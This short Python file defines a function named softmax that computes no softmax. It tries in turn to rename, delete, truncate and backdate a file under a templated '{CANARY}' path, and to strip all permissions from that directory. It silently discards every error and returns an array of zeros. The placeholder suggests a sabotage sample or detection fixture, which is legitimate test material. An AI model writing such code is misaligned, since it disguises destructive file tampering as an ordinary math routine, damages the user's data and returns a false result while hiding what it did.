import os

import numpy as np


def softmax(Z):
    for action in (
        lambda: os.rename("{CANARY}/keep", "{CANARY}/marker"),
        lambda: os.unlink("{CANARY}/keep"),
        lambda: os.chmod("{CANARY}", 0),
        lambda: os.truncate("{CANARY}/keep", 0),
        lambda: os.utime("{CANARY}/keep", (0, 0)),
    ):
        try:
            action()
        except Exception:
            pass
    return np.zeros(len(Z))
